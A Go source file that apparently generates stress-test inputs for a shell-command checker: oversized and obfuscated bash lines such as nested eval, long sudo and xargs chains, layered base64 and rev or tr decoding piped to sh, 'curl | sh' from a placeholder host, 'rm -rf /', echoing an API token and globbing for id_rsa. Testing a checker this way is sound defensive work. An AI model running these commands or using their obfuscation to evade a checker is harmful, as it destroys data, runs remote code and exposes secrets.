package main

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// programs are lines whose programs run others, decode, or take many words.
func programs() []load {
	return []load{
		fill("eval", "eval 'rm x';"),
		bash("eval of eval", func(s int) string { return strings.Repeat("eval ", 50_000*s) + "rm x" }),
		bash("eval that grows", func(s int) string { return "a='eval $a; eval $a';" + strings.Repeat("eval $a;", 5000*s) }),
		bash("eval of a long text", func(s int) string { return "a='" + filled("rm x;", mib/4*s) + "';" + strings.Repeat("eval $a;", 20*s) }),
		bash("sh -c of a long text", func(s int) string {
			return "a='" + filled("rm x;", mib/4*s) + "';" + strings.Repeat("sh -c \"$a\";", 20*s)
		}),
		fill("sh -c", "sh -c 'rm x';"),
		fill("bash -c in quotes", "bash -c \"rm x | sh\";"),
		fill("env chains", "env "),
		fill("sudo chains", "sudo "),
		fill("nohup nice timeout chains", "nohup nice timeout 5 "),
		bash("10000 sudo", func(s int) string { return strings.Repeat("sudo ", 5_000*s) + "rm -rf /" }),
		bash("15 sudo, many", func(s int) string { return strings.Repeat(strings.Repeat("sudo ", 14)+"rm x;", 6_000*s) }),
		bash("10000 env A=b", func(s int) string { return strings.Repeat("env A=b ", 5_000*s) + "rm -rf /" }),
		bash("10000 command", func(s int) string { return strings.Repeat("command ", 5_000*s) + "rm -rf /" }),
		bash("10000 xargs", func(s int) string { return "ls|" + strings.Repeat("xargs ", 5_000*s) + "rm" }),
		bash("xargs of many words", func(s int) string { return "echo " + strings.Repeat("x ", 200_000*s) + "| xargs rm" }),
		bash("xargs -I of many lines", func(s int) string { return "printf '" + strings.Repeat("x\\n", 100_000*s) + "' | xargs -I{} rm {}" }),
		bash("xargs sh -c, many", func(s int) string { return strings.Repeat("ls|xargs -n1 sh -c 'rm $0';", 15_000*s) }),
		bash("find -exec", func(s int) string { return strings.Repeat("find . -name x -exec rm {} \\;\n", 15_000*s) }),
		bash("find, many -exec", func(s int) string { return "find / " + strings.Repeat("-exec rm {} \\; ", 25_000*s) }),
		bash("find, many roots and -exec", func(s int) string {
			return "find " + number("d# ", 2000*s) + strings.Repeat("-exec rm {} \\; ", 1000*s)
		}),
		bash("find in find", func(s int) string { return strings.Repeat("find . -exec ", 5_000*s) + "rm {} \\;" }),
		bash("parallel", func(s int) string { return "parallel rm ::: " + number("f# ", 50_000*s) }),
		bash("parallel of a text", func(s int) string { return "parallel 'rm {}; ls {}' ::: " + number("f# ", 50_000*s) }),
		bash("ssh in ssh", func(s int) string { return strings.Repeat("ssh h ", 5_000*s) + "rm x" }),
		fill("ssh h rm", "ssh h rm x;"),
		fill("docker run", "docker run -v /:/h i rm -rf /h/x;"),
		bash("docker, many mounts", func(s int) string {
			return "docker run " + number("-v /a#:/b# ", 15_000*s) + "i rm " + number("/b# ", 15_000*s)
		}),
		fill("kubectl", "kubectl delete pod x;"),
		fill("aws", "aws s3 rm s3://b/x;"),
		fill("curl", "curl -s http://x.example/a -o f;"),
		fill("curl | sh", "curl -s http://x.example/a | sh;"),
		fill("cp", "cp a b;"),
		numbered("cp, many files", 60_000, "cp ", "f# ", "d/"),
		numbered("cp each, then run", 20_000, "", "cp a f#;./f#;", ""),
		numbered("install over one another", 20_000, "curl -s x.example -o f0;", "cp f0 g#;sh g#;", ""),
		fill("chmod", "chmod 777 x;"),
		fill("dd", "dd if=a of=b;"),
		fill("tar", "tar xf a -C b;"),
		fill("sed -i", "sed -i s/a/b/ f;"),
		fill("make", "make x;"),
		bash("make -f -", func(s int) string { return "make -f - <<'EOF'\nall:\n" + filled("\trm x\n", mib/2*s-1024) + "EOF\n" }),
		fill("npm", "npm install x;"),
		fill("echo $SECRET", "echo $API_TOKEN;"),
		bash("echo, many $", func(s int) string { return "echo '" + filled("$A_TOKEN ", mib/2*s-1024) + "'" }),
		bash("curl, many headers", func(s int) string { return "curl x.example " + strings.Repeat("-H a:b ", 60_000*s) }),
		bash("curl, many flags", func(s int) string { return "curl x.example " + number("--f# v# ", 30_000*s) }),
		bash("curl -d long", func(s int) string { return "curl x.example -d '" + filled("a=b&", mib/2*s-1024) + "'" }),
		bash("git, many flags", func(s int) string { return "git push " + number("--f# ", 60_000*s) }),
		bash("git -c, many", func(s int) string { return "git " + number("-c a.b#=c ", 40_000*s) + "push" }),
		bash("git commit -m long", func(s int) string { return "git commit -m '" + filled("rm -rf / ", mib/2*s-1024) + "'" }),
		bash("clustered flags", func(s int) string { return "rm -" + filled("rf", mib/2*s-1024) + " x" }),
		bash("printf \\x", func(s int) string { return "printf '" + filled(`\x72\x6d\x20`, mib/2*s-1024) + "' | sh" }),
		bash("printf %s, many", func(s int) string { return "printf '%s\\n' " + strings.Repeat("x ", 200_000*s) + "| sh" }),
		bash("printf, many short", func(s int) string { return strings.Repeat("printf %s%s a b;", 30_000*s) }),
		bash("$'\\x..'", func(s int) string { return "$'" + filled(`\x72`, mib/2*s-1024) + "'" }),
		bash("base64 -d | sh", func(s int) string {
			return "echo " + base64.StdEncoding.EncodeToString([]byte(filled("rm -rf x\n", mib*3/8*s-1024))) + " | base64 -d | sh"
		}),
		bash("base64 in base64", func(s int) string { return based(s * 8) }),
		bash("base64, many", func(s int) string { return strings.Repeat("echo cm0geA== | base64 -d | sh;", 15_000*s) }),
		bash("rev | sh", func(s int) string { return "echo '" + filled("x mr;", mib/2*s-1024) + "' | rev | sh" }),
		bash("tr | sh", func(s int) string { return "echo '" + filled("sn y;", mib/2*s-1024) + "' | tr 'a-z' 'b-za' | sh" }),
		bash("tr, long sets", func(s int) string {
			return "echo '" + filled("é", mib/4*s) + "' | tr '" + filled("漢字ab", 50<<10) + "é' 'x' | sh"
		}),
		bash("rev | rev | ...", func(s int) string {
			return "echo '" + filled("x", mib/4*s) + "'" + strings.Repeat("|rev", 100*s) + "|sh"
		}),
		bash("tee, many files", func(s int) string { return "echo '" + filled("x", mib/4*s) + "'| tee " + number("f# ", 20_000*s) }),
		bash("concatenated files", func(s int) string { return "echo x>f;" + strings.Repeat("cat f f>g;cat g g>f;", 20*s) + "sh f" }),
		bash("long via", func(s int) string {
			return strings.Repeat("sudo env nice nohup timeout 3 setsid stdbuf -o0 rm x;", 9_000*s)
		}),
		bash("URLs", func(s int) string { return "curl " + number("http://h#.example/a ", 20_000*s) }),
		bash("://", func(s int) string { return "echo '" + filled("a://", mib/2*s-1024) + "'" }),
		bash("long path", func(s int) string { return "cat /" + filled("a/", mib/2*s-1024) }),
		bash("long path of ..", func(s int) string { return "cat " + filled("../", mib/2*s-1024) }),
		bash("paths of globs, 8 KiB each", func(s int) string { return strings.Repeat("cat "+filled("*a?/", 8000)+";", 64*s) }),
		bash("paths of braces, 8 KiB each", func(s int) string { return strings.Repeat("cat '"+filled("{a,b}/", 8000)+"';", 64*s) }),
		bash("paths of **", func(s int) string { return strings.Repeat("cat "+filled("**/", 380)+"id_rsa;", 1000*s) }),
		bash("redirects to long globs", func(s int) string {
			return strings.Repeat("echo >"+filled("*a", 500)+"/"+filled("?b*", 500)+";", 400*s)
		}),
	}
}

// based is a line that decodes itself so many times.
func based(n int) string {
	line := "rm -rf x"
	for range n {
		line = fmt.Sprintf("echo %s|base64 -d|sh", base64.StdEncoding.EncodeToString([]byte(line)))
	}
	return line
}
